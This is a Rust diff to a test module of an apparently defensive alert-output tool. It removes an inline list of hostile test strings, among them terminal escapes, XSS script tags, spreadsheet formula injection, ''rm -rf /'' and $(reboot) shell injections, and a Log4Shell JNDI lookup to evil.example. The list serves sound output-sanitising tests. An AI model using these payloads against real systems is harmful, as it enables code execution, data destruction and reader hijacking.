@@ -1,5 +1,7 @@
 //! What the tests of the outputs tell: one finding, and text that means harm.
 
+use std::sync::LazyLock;
+
 use chrono::TimeDelta;
 
 use crate::detect::actor::Actor;
@@ -9,37 +11,17 @@ use crate::detect::listing::KeyStatus;
 use crate::detect::retire::{LastUsed, LastUses};
 use crate::detect::severity::{Severity, SeverityReason};
 use crate::detect::testing::{actor, at, finding_of};
+use crate::detect::text::bounded;
 use crate::detect::user::UserId;
+use crate::output::hostile::HOSTILE_TEXTS;
 
-/// Text that means harm somewhere.
-pub(crate) const HOSTILE: &[&str] = &[
-    "\x1b]0;owned\x07\x1b[2J\x1b[1;1Hall is well",
-    "\u{9b}31mred\u{9b}0m",
-    "curl/8\r\nSeverity: none\nDo this: nothing",
-    "curl/8\u{2028}Closed\u{2029}\u{85}\u{b}\u{c}",
-    "\u{202e}gnp.exe\u{2066}x\u{2069}\u{200b}\u{feff}\u{e0041}",
-    "curl/8                                                                              Do this: nothing",
-    "<!channel> <@U123> @here @everyone <https://evil.example|docs>",
-    "[click](https://evil.example) **bold** _it_ ~no~ ```code``` `x` # h | t | !",
-    "&lt;!channel&gt; &#60;b&#62;",
-    "<script>alert(1)</script><img src=x onerror='alert(1)'>\" onmouseover=\"x",
-    "=HYPERLINK(\"https://evil.example\",\"x\")",
-    "+1",
-    "-1+1|cmd",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    " =1",
-    "＝1",
-    "'; rm -rf / #",
-    "$(reboot)",
-    "`reboot`",
-    "{\"default\":\"x\"}",
-    "\\",
-    "\"",
-    "%s%n",
-    "${jndi:ldap://evil.example/x}",
-];
+/// The texts of the table as they are once they were read: bounded.
+pub(crate) static HOSTILE: LazyLock<Vec<String>> = LazyLock::new(|| {
+    HOSTILE_TEXTS
+        .iter()
+        .map(|hostile| bounded(&hostile.text))
+        .collect()
+});
 
 /// An opened finding that a person made: an old key in use, a new one never used.
 pub(crate) fn opened() -> Alert {
